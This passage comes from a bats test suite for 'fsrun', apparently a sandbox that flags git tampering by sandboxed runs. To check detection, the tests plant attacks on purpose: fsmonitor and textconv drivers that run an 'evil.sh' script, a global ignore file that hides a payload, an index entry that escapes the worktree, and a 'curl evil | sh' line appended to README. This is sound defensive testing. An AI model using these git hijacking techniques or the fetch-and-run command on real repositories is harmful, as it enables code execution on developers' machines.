  sbx -- 'echo two >unrelated.txt'
  [ "$(config_tamper | jq -c sort)" = "$want" ]
  mapfile -t args < <(host_args)
  [ "${args[0]}|${args[1]}" = "-c|core.abbrev=fsrun-cannot-disarm" ]
  for cmd in status "add -A"; do
    rc=0
    # shellcheck disable=SC2086 # cmd is two words on purpose
    as_owner timeout 600 env GIT_CONFIG_NOSYSTEM=1 GIT_CONFIG_GLOBAL=/dev/null \
      git -C "$WT" "${args[@]}" $cmd >/dev/null 2>&1 || rc=$?
    [ "$rc" = 128 ]
  done
  rc=0
  as_owner timeout 2 env GIT_CONFIG_NOSYSTEM=1 GIT_CONFIG_GLOBAL=/dev/null \
    git -C "$WT" status >/dev/null 2>&1 || rc=$?
  [ "$rc" = 124 ]
}

@test "sandbox-git: a nested .git dir's HEAD or commondir that is a FIFO is named on every run; hostGitArgs make the host's git fail, not hang (root)" {
  route_fifo_git_dir root
}

@test "sandbox-git: a nested .git dir's HEAD or commondir that is a FIFO is named on every run; hostGitArgs make the host's git fail, not hang (ordinary user)" {
  route_fifo_git_dir user
}

# route_unread_standing OWNER (gitunread, the decision in docs/sandbox.md): the repository's
# included config is over 1 MiB before the run (plant_unread big, made on the host). A run that
# leaves it alone still names it (`config:unread:`, a standing entry) and its hostGitArgs start with
# the cannot-disarm option: fsrun never read what that file includes, so its unchanged digest
# proves nothing of what the run wrote; with them the host's `git status` exits 128.
route_unread_standing() {
  local args
  make_repo "$1"
  hgit -C "$REPO" config include.path ../.gitconfig
  plant_unread big | as_owner sh -c 'cd "$1" && sh -s "$2"' sh "$REPO" "$DIR/evil.sh"
  sbx "$REPO" -- 'echo two >unrelated.txt'
  [ "$(config_tamper)" = "$(jq -cn --arg r "$REPO" \
    '["config:unread:\($r)/.git/../.gitconfig (larger than fsrun reads)"]')" ]
  host_args >/dev/null
  mapfile -t args < <(host_args)
  [ "${args[0]}|${args[1]}" = "-c|core.abbrev=fsrun-cannot-disarm" ]
  status=0
  hgit -C "$REPO" "${args[@]}" status >/dev/null 2>&1 || status=$?
  [ "$status" = 128 ]
  [ ! -e "$MARKER" ]
}

@test "sandbox-git: an included config over 1 MiB before the run: a run that leaves it alone still cannot disarm (root)" {
  route_unread_standing root
}

@test "sandbox-git: an included config over 1 MiB before the run: a run that leaves it alone still cannot disarm (ordinary user)" {
  route_unread_standing user
}

# run_after_worktree_add NAME SCRIPT: the host's `git worktree add` of .worktrees/NAME in the main
# checkout, right before a one-shot run of SCRIPT there that blocks reading its policy from stdin
# until the worktree is made
run_after_worktree_add() {
  rm -f "$DIR/audit.jsonl"
  { hgit -C "$REPO" worktree add -q -b "$1" "$REPO/.worktrees/$1" && echo '{}'; } |
    as_owner env GIT_CONFIG_NOSYSTEM=1 GIT_CONFIG_GLOBAL=/dev/null timeout -s KILL 120 \
      "$FSRUN" --root "$DIR/state" sandbox --audit-log "$DIR/audit.jsonl" --policy - \
      --worktree "$REPO" -- /bin/sh -c "$2"
  [ -e "$REPO/.worktrees/$1/.git" ]
}

# host_repo_before_run OWNER: a run's cutoff 20 ms before its start named the linked worktrees the
# host had just made (`.worktrees/task/.git`, `.worktrees/other/.git`: seen once in a full run):
# the run names nothing of the host's; a repository the run makes is still named
host_repo_before_run() {
  make_repo "$1"
  run_after_worktree_add third true
  [ "$(tamper)" = '[]' ]
  run_after_worktree_add fourth 'git init -q sub'
  [ "$(tamper)" = '["sub/.git"]' ]
}

@test "sandbox-git: a linked worktree the host made right before a run is not the run's nested repository (root)" {
  host_repo_before_run root
}

@test "sandbox-git: a linked worktree the host made right before a run is not the run's nested repository (ordinary user)" {
  host_repo_before_run user
}

# run_after_worktree_add_file NAME SCRIPT: the host's `git worktree add` of .worktrees/NAME in the
# main checkout, then at once a one-shot run of SCRIPT there whose policy is a regular file: the run
# begins at fsrun's start (perfidle24), with nothing to wait for
run_after_worktree_add_file() {
  rm -f "$DIR/audit.jsonl"
  hgit -C "$REPO" worktree add -q -b "$1" "$REPO/.worktrees/$1"
  as_owner env GIT_CONFIG_NOSYSTEM=1 GIT_CONFIG_GLOBAL=/dev/null timeout -s KILL 120 \
    "$FSRUN" --root "$DIR/state" sandbox --audit-log "$DIR/audit.jsonl" --policy "$DIR/policy.json" \
    --worktree "$REPO" -- /bin/sh -c "$2"
}

# host_repo_before_file_run OWNER: with the policy in a file, the run begins when fsrun starts (not
# once it has read its input): the worktree the host made just before is still not the run's (a
# start 20 ms early named it), and a repository the run makes is, in each of ten runs
host_repo_before_file_run() {
  make_repo "$1"
  for i in $(seq 10); do
    run_after_worktree_add_file "w$i" true
    [ "$(tamper)" = '[]' ] || { echo "run $i named $(tamper)"; return 1; }
  done
  run_after_worktree_add_file last 'mkdir -p n/.git'
  [ "$(tamper)" = '["n/.git"]' ]
}

@test "sandbox-git: a linked worktree the host made right before a run with a policy file is not the run's nested repository (root)" {
  host_repo_before_file_run root
}

@test "sandbox-git: a linked worktree the host made right before a run with a policy file is not the run's nested repository (ordinary user)" {
  host_repo_before_file_run user
}

# mkdir_run PATH: a one-shot run of `mkdir -p PATH` on the task's worktree, as the owner, with an
# audit log of its own
mkdir_run() {
  rm -f "$DIR/audit.jsonl"
  as_owner env GIT_CONFIG_NOSYSTEM=1 GIT_CONFIG_GLOBAL=/dev/null timeout -s KILL 120 \
    "$FSRUN" --root "$DIR/state" sandbox --audit-log "$DIR/audit.jsonl" \
    --policy "$DIR/policy.json" --worktree "$WT" -- /bin/mkdir -p "$1" 2>"$DIR/stderr" ||
    { cat "$DIR/stderr"; return 1; }
}

# repo_at_once OWNER: the wait for file times to reach a one-shot run's cutoff overlaps the
# container's set-up (the init waits before its command, cutoff23); a command whose first act is to
# make a nested repository (mkdir, no shell: as soon after its exec as it can) has it named, in
# each of 30 runs (with the wait left out, runs where the set-up took less than the coarse clock's
# lag missed it)
repo_at_once() {
  make_repo "$1"
  for i in $(seq 30); do
    mkdir_run "n$i/.git"
    [ "$(tamper)" = "[\"n$i/.git\"]" ] || { echo "run $i named $(tamper)"; return 1; }
  done
}

# coarse_fs_runs OWNER (run by coarse_fs): ten runs each make a nested repository at once: each is
# named (with the earlier runs' of the same second). Then the host's `git worktree add` right
# before a run: within the cutoff's second the new `.worktrees` directory's ctime names every `.git`
# below it (a false alarm of a whole-second filesystem, docs/sandbox.md), nothing else; a repository
# the run makes is named.
coarse_fs_runs() {
  make_repo "$1"
  for i in $(seq 10); do
    mkdir_run "n$i/.git"
    # its own, and maybe an earlier run's of the same second (a false alarm)
    tamper | jq -e --arg own "n$i/.git" 'index($own) != null and all(.[]; test("^n[0-9]+/\\.git$"))' \
      >/dev/null || { echo "run $i named $(tamper)"; return 1; }
  done
  run_after_worktree_add third true
  echo "worktree add, then a run: $(tamper)"
  tamper | jq -e 'all(.[]; test("^\\.worktrees/.*\\.git$"))' >/dev/null
  run_after_worktree_add fourth 'git init -q sub'
  echo "worktree add, then a run making sub: $(tamper)"
  tamper | jq -e 'index("sub/.git") != null and all(.[]; test("^(\\.worktrees/.*|sub/)\\.git$"))' \
    >/dev/null
}

# private_fs MOUNT CHECK OWNER BODY FUNCTION...: BODY OWNER, in a mount namespace of the test's
# own where MOUNT has mounted a filesystem at $REPO, owned by OWNER; CHECK says it has the
# property the test needs; the FUNCTIONs are the ones BODY calls. Unmounted after BODY.
private_fs() {
  local mount=$1 check=$2 owner=$3 owner_id=0:0 body=$4
  requires_host_command unshare
  if [ "$owner" = user ]; then
    [ -n "${TEST_USER:-}" ] || skip "needs useradd and setpriv"
    owner_id=$(id -u "$TEST_USER"):$(id -g "$TEST_USER")
    setpriv --reuid "${owner_id%:*}" --regid "${owner_id#*:}" --clear-groups unshare -U true \
      2>/dev/null || skip "an unprivileged user cannot create a user namespace"
  fi
  # as make_repo sets them in BODY's shell: the teardown's clean-up runs as the owner
  OWNER=$owner TEST_UID=${owner_id%:*} TEST_GID=${owner_id#*:}
  mkdir "$REPO"
  export DIR REPO WT OTHER MARKER FSRUN TEST_USER
  shift 4
  export -f "$mount" "$check" "$body" make_owner make_repo as_owner hgit tamper "$@"
  unshare -m --propagation private bash -ec '"$5"
    chown "$3" "$REPO"
    "$4"
    "$2" "$1"
    umount "$REPO"' _ "$owner" "$body" "$owner_id" "$check" "$mount"
}

mount_image() {
  mount -o loop "$DIR/img" "$REPO"
  rmdir "$REPO/lost+found"
}

# loop_ext4 MKFS_OPTIONS CHECK OWNER BODY FUNCTION...: private_fs on an ext4 made with
# MKFS_OPTIONS, loop-mounted; its loop device goes after BODY (autoclear, once the runs' mount
# namespaces are gone: waited for, WAIT_MAX_S at most).
loop_ext4() {
  local options=$1 tries=$((WAIT_MAX_S * 10))
  requires_host_command mkfs.ext4
  [ -e /dev/loop-control ] || skip "needs loop devices (/dev/loop-control)"
  truncate -s 16M "$DIR/img"
  # shellcheck disable=SC2086 # the options are words
  mkfs.ext4 -q -F $options "$DIR/img"
  shift
  private_fs mount_image "$@"
  while [ -n "$(losetup -j "$DIR/img")" ] && [ "$tries" -gt 0 ]; do
    sleep 0.1
    tries=$((tries - 1))
  done
  [ -z "$(losetup -j "$DIR/img")" ]
}

whole_seconds() {
  [[ $(stat -c %.9Z "$REPO") == *.000000000 ]] || { echo "not whole seconds"; return 1; }
}

# coarse_fs OWNER BODY FUNCTION... (review23 A3): loop_ext4 on an ext4 of 128-byte inodes
# (whole-second file times: a change made in the cutoff's second is stored before the cutoff)
coarse_fs() {
  loop_ext4 "-I 128" whole_seconds "$@"
}

# coarse_hook_runs OWNER (run by coarse_fs): core.hooksPath names a hooks dir outside the task's
# worktree that the policy makes writable, on the whole-second filesystem; each of 5 runs rewrites
# its pre-commit in place with one of the same size (same inode, ctime in the digest's second): each
# is named, and hostGitArgs disarm it. Without the content read there: 9 of 10 runs named nothing.
coarse_hook_runs() {
  local hooks=$REPO/out/hooks
  make_repo "$1"
  as_owner mkdir -p "$hooks"
  as_owner sh -c 'printf "#!/bin/sh\necho AAAA\n" >"$1/pre-commit" && chmod 755 "$1/pre-commit"' \
    sh "$hooks"
  hgit -C "$WT" config core.hooksPath "$hooks"
  jq -n --arg w "$REPO/out" '{writablePaths: [$w]}' >"$DIR/policy.json"
  for i in $(seq 5); do
    rm -f "$DIR/audit.jsonl"
    sbx -- "printf '#!/bin/sh\necho BBB$i\n' >'$hooks/pre-commit'" >/dev/null
    [ "$(cat "$hooks/pre-commit")" = "$(printf '#!/bin/sh\necho BBB%s' "$i")" ]
    [ "$(tamper)" = "[\"config:core.hooksPath=$hooks\"]" ] || { echo "run $i: $(tamper)"; return 1; }
  done
}

@test "sandbox-git: on a filesystem of whole-second times a hook outside the worktree rewritten at once is named (root)" {
  coarse_fs root coarse_hook_runs sbx run_dirs git_run_dirs
}

@test "sandbox-git: on a filesystem of whole-second times a hook outside the worktree rewritten at once is named (ordinary user)" {
  coarse_fs user coarse_hook_runs sbx run_dirs git_run_dirs
}

@test "sandbox-git: on a filesystem of whole-second times a nested repository a run makes at once is named (root)" {
  coarse_fs root coarse_fs_runs run_after_worktree_add mkdir_run
}

@test "sandbox-git: on a filesystem of whole-second times a nested repository a run makes at once is named (ordinary user)" {
  coarse_fs user coarse_fs_runs run_after_worktree_add mkdir_run
}

no_filetype() {
  [[ $(tune2fs -l "$DIR/img" | grep '^Filesystem features:') != *" filetype"* ]] ||
    { echo "the ext4 has the filetype feature"; return 1; }
}

# untyped_runs OWNER (review24 B2, run by loop_ext4 on an ext4 without `filetype`: readdir gives
# DT_UNKNOWN for every entry): the nested repositories a run makes, at the top, deeper and as a
# package in node_modules, are named, and hostGitArgs carry the nested options. Skipping
# DT_UNKNOWN as "no directory": `tamper: []`, no hostGitArgs.
untyped_runs() {
  make_repo "$1"
  sbx -- 'git init -q n1 && mkdir -p deep/a/b node_modules/x && git init -q deep/a/b &&
    git init -q node_modules/x && echo file >deep/a/f'
  echo "named: $(tamper)"
  [ "$(tamper)" = '["deep/a/b/.git","n1/.git","node_modules/x/.git"]' ]
  host_args >/dev/null
  host_args | grep -qx core.fsmonitor=false
  host_args | grep -qx submodule.recurse=false
}

@test "sandbox-git: on a filesystem whose readdir gives no types the nested repositories a run makes are named (root)" {
  loop_ext4 "-O ^filetype" no_filetype root untyped_runs sbx host_args run_dirs git_run_dirs
}

@test "sandbox-git: on a filesystem whose readdir gives no types the nested repositories a run makes are named (ordinary user)" {
  loop_ext4 "-O ^filetype" no_filetype user untyped_runs sbx host_args run_dirs git_run_dirs
}

mount_tmpfs() {
  mount -t tmpfs -o size=64m,mode=0755 tmpfs "$REPO"
}

is_tmpfs() {
  [ "$(stat -f -c %T "$REPO")" = tmpfs ] || { echo "not a tmpfs"; return 1; }
}

# mmap_rewrite_shows REL: a run rewrites REL, a tracked file of the task's worktree that holds
# `one`, through a shared mapping it read first (no write fault on a tmpfs: its mtime and ctime do
# not move, checked); the host's `git status --porcelain` and `git diff` show it modified
mmap_rewrite_shows() {
  local before
  # older than the index, which the status rewrites: git trusts its stat data
  as_owner touch -d 2020-01-01 "$WT/$1"
  hgit -C "$WT" status --porcelain >/dev/null
  [ -z "$(hgit -C "$WT" status --porcelain)" ]
  before=$(stat -c '%i %s %.9Y %.9Z' "$WT/$1")
  sbx -- "python3 -c '
import mmap, sys
with open(sys.argv[1], \"r+b\") as f:
    m = mmap.mmap(f.fileno(), 0)
    assert m[0:3] == b\"one\"
    m[0:3] = b\"TWO\"
    m.close()
' '$1'"
  [ "$(cat "$WT/$1")" = TWO ]
  [ "$(stat -c '%i %s %.9Y %.9Z' "$WT/$1")" = "$before" ] ||
    { echo "the mapping's write moved $1's times: nothing to show"; return 1; }
  echo "status: $(hgit -C "$WT" status --porcelain)"
  [ "$(hgit -C "$WT" status --porcelain)" = " M $1" ]
  hgit -C "$WT" diff | grep -qx '+TWO'
}

# mmap_runs OWNER (review24 B3, run by private_fs on a tmpfs): mmap_rewrite_shows README. Without
# the host's index made racily clean after the run: status and diff showed nothing.
mmap_runs() {
  make_repo "$1"
  mmap_rewrite_shows README
}

@test "sandbox-git: on a tmpfs worktree a tracked file a run rewrote through a shared mapping shows in the host's git status (root)" {
  private_fs mount_tmpfs is_tmpfs root mmap_runs mmap_rewrite_shows sbx
}

@test "sandbox-git: on a tmpfs worktree a tracked file a run rewrote through a shared mapping shows in the host's git status (ordinary user)" {
  private_fs mount_tmpfs is_tmpfs user mmap_runs mmap_rewrite_shows sbx
}

mount_disk() {
  mkdir "$DIR/disk"
  mount --bind "$DIR/disk" "$REPO"
}

# on_disk [PATH]: PATH's ($REPO's) filesystem is one whose file times fsrun trusts (file-time.c:
# ext2/3/4, XFS, Btrfs, F2FS)
on_disk() {
  case $(stat -f -c %t "${1:-$REPO}") in
  ef53 | 58465342 | 9123683e | f2f52010) ;;
  *) return 1 ;;
  esac
}

# submount_mmap_runs OWNER (review24 B3, run by private_fs on a disk filesystem): a tmpfs mounted at
# node_modules below the worktree's top holds a tracked file; as the ordinary user (whose binds are
# recursive) mmap_rewrite_shows it: with only the top's filesystem asked (a disk's, whose times
# are trusted), status and diff showed nothing. Root's binds are not recursive (docs/sandbox.md):
# its run sees the disk's directory below the mount point, not the file.
submount_mmap_runs() {
  make_repo "$1"
  as_owner mkdir "$WT/node_modules"
  mount -t tmpfs -o "size=8m,mode=0755,$(stat -c uid=%u,gid=%g "$WT")" tmpfs "$WT/node_modules"
  as_owner mkdir "$WT/node_modules/x"
  as_owner sh -c 'echo one >"$1"' sh "$WT/node_modules/x/index.js"
  hgit -C "$WT" add -f node_modules/x/index.js
  hgit -C "$WT" commit -qm vendored
  if [ "$1" = root ]; then
    sbx -- 'test ! -e node_modules/x/index.js'
  else
    mmap_rewrite_shows node_modules/x/index.js
  fi
  umount "$WT/node_modules"
}

@test "sandbox-git: a tracked file on a tmpfs mounted below a disk worktree, rewritten through a shared mapping, shows in the host's git status (root)" {
  on_disk "$DIR" || skip "$DIR is not on a disk filesystem"
  private_fs mount_disk on_disk root submount_mmap_runs mmap_rewrite_shows sbx
}

@test "sandbox-git: a tracked file on a tmpfs mounted below a disk worktree, rewritten through a shared mapping, shows in the host's git status (ordinary user)" {
  on_disk "$DIR" || skip "$DIR is not on a disk filesystem"
  private_fs mount_disk on_disk user submount_mmap_runs mmap_rewrite_shows sbx
}

# dotgit_mmap_runs OWNER (review24 B1, run by private_fs on a tmpfs): the worktree's `sub`, no
# repository, holds a `.git` file (a submodule's pointer whose module is not there). A run makes a
# repository at the top (`.r`, no `.git` entry of its own) and rewrites `sub/.git` through a shared
# mapping it read first to point at it: no time of `sub` or `sub/.git` moves (checked), and the
# host's git now takes `sub` as a nested repository. Named, with the nested options in hostGitArgs.
# By ctime alone (no inventory of the `.git` entries before the run): `tamper: []`.
dotgit_mmap_runs() {
  local before
  make_repo "$1"
  as_owner mkdir "$WT/sub"
  as_owner sh -c 'echo "gitdir: ../../.git/modules/sub-not-here" >"$1"' sh "$WT/sub/.git"
  before=$(stat -c '%i %s %.9Y %.9Z' "$WT/sub" "$WT/sub/.git")
  sbx -- "git init -q --bare .r && git --git-dir=.r config core.bare false && python3 -c '
import mmap
with open(\"sub/.git\", \"r+b\") as f:
    m = mmap.mmap(f.fileno(), 0)
    assert m[0:8] == b\"gitdir: \"
    m[:] = b\"gitdir: ../.r\".ljust(len(m), b\"\\n\")
    m.close()
'"
  [ "$(stat -c '%i %s %.9Y %.9Z' "$WT/sub" "$WT/sub/.git")" = "$before" ] ||
    { echo "the mapping's write moved a time: the ctime names it"; return 1; }
  [ "$(hgit -C "$WT/sub" rev-parse --absolute-git-dir)" = "$WT/.r" ]
  echo "named: $(tamper)"
  [ "$(tamper)" = '["sub/.git"]' ]
  host_args | grep -qx core.fsmonitor=false
}

@test "sandbox-git: on a tmpfs worktree a .git file a run rewrote through a shared mapping into a nested repository is named (root)" {
  private_fs mount_tmpfs is_tmpfs root dotgit_mmap_runs sbx host_args
}

@test "sandbox-git: on a tmpfs worktree a .git file a run rewrote through a shared mapping into a nested repository is named (ordinary user)" {
  private_fs mount_tmpfs is_tmpfs user dotgit_mmap_runs sbx host_args
}

# init_waits OWNER: the wait is the container's init's, before its command; a one-shot run's set-up
# mostly outlasts the coarse clock's lag, so that repo_at_once passes even without it. Here the time
# to wait for is 300 ms past the start (tests/exec-not-before: no option of the CLI sets it), far
# past the set-up: the directory the command makes has a time not before it. In the VM too: Linux
# 6.1 sets every file time from the coarse clock (no fine-grained ctime before 6.13).
init_waits() {
  local enb=${FSRUN%/*}/tests/exec-not-before sec nsec ctime spec=
  [ -x "$enb" ] || skip "tests/exec-not-before is not built next to $FSRUN"
  make_owner "$1"
  [ "$OWNER" = root ] || spec=--rootless
  setup_bundle "$DIR/bundle"
  mkdir "$ROOTFS/out"
  as_owner mkdir "$DIR/out"
  chown "$(stat -c %u:%g "$DIR")" "$BUNDLE" # not the rootfs: its files are the cache's hardlinks
  as_owner sh -c 'cd "$1" && rm config.json && "$2" spec $3' sh "$BUNDLE" "$FSRUN" "$spec"
  update_config '.process.terminal = false | .process.args = ["/bin/mkdir", "/out/made"]
    | .mounts += [{"destination": "/out", "type": "bind", "source": $out, "options": ["rbind", "rw"]}]' \
    --arg out "$DIR/out"
  read -r sec nsec < <(as_owner "$enb" "$DIR/state" "$BUNDLE" "enb-$UNIQ-$1" 300)
  ctime=$(stat -c %.9Z "$DIR/out/made")
  echo "waited for $sec $nsec; made at $ctime"
  [ "${ctime%.*}" -gt "$sec" ] || { [ "${ctime%.*}" -eq "$sec" ] && [ $((10#${ctime#*.})) -ge "$nsec" ]; }
}

# bats test_tags=kernel61
@test "sandbox-git: the container's init waits for file times to reach the cutoff before the command (root)" {
  init_waits root
}

# bats test_tags=kernel61
@test "sandbox-git: the container's init waits for file times to reach the cutoff before the command (ordinary user)" {
  init_waits user
}

@test "sandbox-git: a nested repository a run's command makes at once is named, in every run (root)" {
  repo_at_once root
}

@test "sandbox-git: a nested repository a run's command makes at once is named, in every run (ordinary user)" {
  repo_at_once user
}

# plant_reader KIND: the script a run of route_reader runs at the repository's top ($1: the script
# the host's git must not run), making the included .gitconfig one git 2.39 reads on where fsrun's
# reader stopped or cut (review22 F4), with a textconv for README and an fsmonitor: `orphan`, a key
# before any section first; `crlf`, a value a backslash before CR LF continues; `long`, a
# subsection of 1100 bytes (cut at 1 KiB, it named a driver that does not exist); `cwdlink`, a link
# through /proc/self/cwd (git's cwd, not fsrun's) to a file the run wrote
plant_reader() {
  local drivers='"[diff \"%s\"]\n\ttextconv = %s\n[core]\n\tfsmonitor = %s\n" "$D" "$1" "$1"'
  echo 'D=x'
  case $1 in
  orphan) echo "{ echo 'orphan = 1'; printf $drivers; } >.gitconfig" ;;
  crlf) echo "{ printf '[user]\r\n\tx = a\\\\\r\nb\r\n'; printf $drivers | sed 's/\$/\r/'; } >.gitconfig" ;;
  long) echo "D=\$(head -c 1100 /dev/zero | tr '\0' d) && printf $drivers >.gitconfig" ;;
  cwdlink) echo "mkdir sub && printf $drivers >sub/evil.cfg && ln -sf /proc/self/cwd/sub/evil.cfg .gitconfig" ;;
  esac
  echo 'echo "README diff=$D" >.gitattributes && echo ONE >README'
}

# route_reader OWNER KIND (review22 F4): a run makes the included config plant_reader's. hostGitArgs
# either disarm the textconv and the fsmonitor git reads there, by their whole names, or start
# with the cannot-disarm option (a magic link always); with them the host's `diff` and `status`
# run nothing the run planted; a plain `diff` runs its textconv (the control).
route_reader() {
  local args joined driver=x
  make_repo "$1"
  hgit -C "$REPO" config include.path ../.gitconfig
  sbx "$REPO" -- "set -- $DIR/evil.sh; $(plant_reader "$2")"
  [ "$(config_tamper)" = '["config:include.path=../.gitconfig"]' ]
  host_args >/dev/null
  mapfile -t args < <(host_args)
  TMPDIR=$DIR/home hgit -C "$REPO" "${args[@]}" diff >/dev/null 2>&1 || true
  hgit -C "$REPO" "${args[@]}" status >/dev/null 2>&1 || true
  [ ! -e "$MARKER" ]
  joined="|$(printf '%s|' "${args[@]}")"
  [ "$2" != long ] || driver=$(head -c 1100 /dev/zero | tr '\0' d)
  if [ "$2" = cwdlink ] || [ "${args[1]}" = core.abbrev=fsrun-cannot-disarm ]; then
    [ "${args[0]}|${args[1]}" = "-c|core.abbrev=fsrun-cannot-disarm" ]
  else
    [[ "$joined" = *"|-c|diff.$driver.textconv=cat|"* ]]
    [[ "$joined" = *"|-c|core.fsmonitor=false|"* ]]
  fi
  TMPDIR=$DIR/home hgit -C "$REPO" diff >/dev/null 2>&1 || true
  [ -e "$MARKER" ]
}

@test "sandbox-git: a run making the included config a key before any section then drivers gets hostGitArgs that disarm them (root)" {
  route_reader root orphan
}

@test "sandbox-git: a run making the included config a key before any section then drivers gets hostGitArgs that disarm them (ordinary user)" {
  route_reader user orphan
}

@test "sandbox-git: a run making the included config a backslash before CR LF then drivers gets hostGitArgs that disarm them (root)" {
  route_reader root crlf
}

@test "sandbox-git: a run making the included config a backslash before CR LF then drivers gets hostGitArgs that disarm them (ordinary user)" {
  route_reader user crlf
}

@test "sandbox-git: a run making the included config a driver of a 1100-byte name gets hostGitArgs that disarm it by its whole name (root)" {
  route_reader root long
}

@test "sandbox-git: a run making the included config a driver of a 1100-byte name gets hostGitArgs that disarm it by its whole name (ordinary user)" {
  route_reader user long
}

@test "sandbox-git: a run making the included config a link through /proc/self/cwd gets hostGitArgs that cannot disarm (root)" {
  route_reader root cwdlink
}

@test "sandbox-git: a run making the included config a link through /proc/self/cwd gets hostGitArgs that cannot disarm (ordinary user)" {
  route_reader user cwdlink
}

# route_global OWNER (review20 E): a policy with the caller's ~/.config writable lets the run write
# git's global config (and husky v9's init.sh, which every husky hook sources), which the host's
# next git reads: a run that leaves them alone reports nothing; one that writes them is reported
# as `config:global:<path>`, and the host's plain `git status` runs the fsmonitor it set.
route_global() {
  make_repo "$1"
  local config=$DIR/home/.config
  as_owner mkdir -p "$config/git"
  printf '{"writablePaths":["%s"]}\n' "$config" >"$DIR/policy.json"
  HOME=$DIR/home sbx -- 'echo two >>README'
  [ "$(config_tamper)" = '[]' ]
  HOME=$DIR/home sbx -- "printf '[core]\\n\\tfsmonitor = $DIR/evil.sh\\n' >$config/git/config &&
    mkdir -p $config/husky && echo true >$config/husky/init.sh"
  [ "$(config_tamper)" = "$(jq -cn --arg c "$config" \
    '["config:global:\($c)/git/config", "config:global:\($c)/husky/init.sh"]')" ]
  grep -qF "config:global:$config/git/config" "$DIR/stderr"
  as_owner env HOME="$DIR/home" GIT_CONFIG_NOSYSTEM=1 git -C "$WT" status >/dev/null 2>&1 || true
  [ -e "$MARKER" ]
}

@test "sandbox-git: a run that writes git's global config through a writable ~/.config is reported (root)" {
  route_global root
}

@test "sandbox-git: a run that writes git's global config through a writable ~/.config is reported (ordinary user)" {
  route_global user
}

# route_global_ignore OWNER (review22 F14): with ~/.config writable the run writes git's global
# ignore file (the XDG one, or core.excludesFile's target) to hide a file it planted from the
# host's `git status` review: reported as `config:global:<path>`
route_global_ignore() {
  make_repo "$1"
  local config=$DIR/home/.config
  as_owner mkdir -p "$config/git"
  printf '{"writablePaths":["%s"]}\n' "$config" >"$DIR/policy.json"
  HOME=$DIR/home sbx -- "echo payload.sh >$config/git/ignore && echo 'echo pwned' >payload.sh &&
    echo '. ./payload.sh' >>README"
  as_owner env HOME="$DIR/home" GIT_CONFIG_NOSYSTEM=1 git -C "$WT" status --porcelain
  [ "$(config_tamper)" = "$(jq -cn --arg c "$config" '["config:global:\($c)/git/ignore"]')" ]
  # core.excludesFile in the user's global config names another file (`~/` is $HOME)
  printf '[core]\n\texcludesFile = ~/.config/my-ignore\n' | as_owner sh -c 'cat >"$1"' sh \
    "$DIR/home/.gitconfig"
  rm "$DIR/audit.jsonl"
  HOME=$DIR/home SBX_GIT_GLOBAL=$DIR/home/.gitconfig sbx -- 'echo two >>README'
  [ "$(config_tamper)" = '[]' ]
  HOME=$DIR/home SBX_GIT_GLOBAL=$DIR/home/.gitconfig sbx -- \
    "echo payload2.sh >$config/my-ignore && echo 'echo pwned' >payload2.sh"
  [ "$(config_tamper)" = "$(jq -cn --arg c "$config" '["config:global:\($c)/my-ignore"]')" ]
}

@test "sandbox-git: a run that writes git's global ignore file through a writable ~/.config is reported (root)" {
  route_global_ignore root
}

@test "sandbox-git: a run that writes git's global ignore file through a writable ~/.config is reported (ordinary user)" {
  route_global_ignore user
}

@test "sandbox-git: the --json result's tamper lists the gitlink and the nested git dir, [] when none" {
  make_repo root
  run "$FSRUN" --root "$DIR/state" sandbox --json --policy "$DIR/policy.json" --worktree "$WT" -- true
  [ "$(jq -c .tamper <<<"$output")" = '[]' ]
  run "$FSRUN" --root "$DIR/state" sandbox --json --policy "$DIR/policy.json" --worktree "$WT" \
    -- /bin/sh -c 'mkdir -p a/b && git init -q a/b/c &&
      git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),a/b/c'
  echo "$output"
  [ "$status" -eq 0 ]
  [ "$(jq -c '.tamper | sort' <<<"${output##*$'\n'}")" = '["a/b/c","a/b/c/.git"]' ]
}

# crafted_index FILE ENTRY...: make-index.pl's index (MODE,ID,NAME entries) written to FILE as the
# owner (a file in the worktree, for the command to copy over its git dir's index)
crafted_index() {
  local file=$1
  shift
  perl "$FSRUN_TESTS_DIR/make-index.pl" "$@" | as_owner sh -c 'cat >"$1"' sh "$file"
}

# discarded: the run's left-out git paths of the sandbox:tamper audit events, as a JSON array
discarded() {
  jq -cs '[.[] | select(.event == "sandbox:tamper") | .discarded[]?] | sort | unique' \
    "$DIR/audit.jsonl"
}

# review18 finding 1: an index entry `../../../victim-dir/victim` (outside the worktree) that the
# host's `git restore .` would write and `git diff` read, and an assume-unchanged bit that would
# hide an edit from the host's `git status`: each index is left out (discarded, the host's kept,
# byte for byte), the victim is neither written nor shown; a plain `git add` still reaches the host,
# without the run's untracked cache.
route_index_escape() {
  make_repo "$1"
  requires_host_command perl
  local readme pwned before victim=$DIR/victim-dir/victim
  as_owner mkdir "$DIR/victim-dir"
  as_owner sh -c 'echo host-secret >"$1"' sh "$victim"
  readme=$(hgit -C "$WT" rev-parse HEAD:README)
  pwned=$(echo PWNED | hgit hash-object --stdin)
  crafted_index "$WT/crafted" "100644,$pwned,../../../victim-dir/victim" "100644,$readme,README"
  before=$(sha256sum <"$REPO/.git/worktrees/task/index")
  sbx -- 'echo PWNED | git hash-object -w --stdin >/dev/null &&
          cp crafted "$(git rev-parse --git-dir)/index" && rm crafted && git ls-files'
  [[ $output == *../victim-dir/victim* ]] # the command's git did take it
  # the host's git, as the caller: nothing outside the worktree written nor shown
  hgit -C "$WT" restore . || true
  hgit -C "$WT" checkout -- . || true
  [ "$(cat "$victim")" = host-secret ]
  ! hgit -C "$WT" diff | grep -q host-secret || false
  [ -z "$(hgit -C "$WT" ls-files | grep victim)" ]
  [ "$(sha256sum <"$REPO/.git/worktrees/task/index")" = "$before" ]
  [ "$(discarded)" = '["worktrees/task/index"]' ]
  grep -q "index is left out: entry \`../../../victim-dir/victim\`: a \`.\` or \`..\` component" "$DIR/stderr"
  # an assume-unchanged bit the host's index did not have
  sbx -- 'echo "curl evil | sh" >>README && git update-index --assume-unchanged README'
  [ "$(sha256sum <"$REPO/.git/worktrees/task/index")" = "$before" ]
  grep -q "index is left out: \`README\` marked assume-unchanged" "$DIR/stderr"
  [ "$(hgit -C "$WT" status --porcelain)" = " M README" ]
  # the task's own staging still reaches the host
  sbx -- 'echo new >new && git add new README'
  [ "$(hgit -C "$WT" diff --cached --name-only)" = "$(printf 'README\nnew')" ]
  [ "$(sha256sum <"$REPO/.git/worktrees/task/index")" != "$before" ]
  # the run's untracked cache (it could say a directory has nothing new) is dropped, its staging
  # applied under a checksum the host's git fsck accepts, and the host sees the untracked file
  # and so is every other extension (review18b #1, #3): the cache-tree (TREE) names the tree the
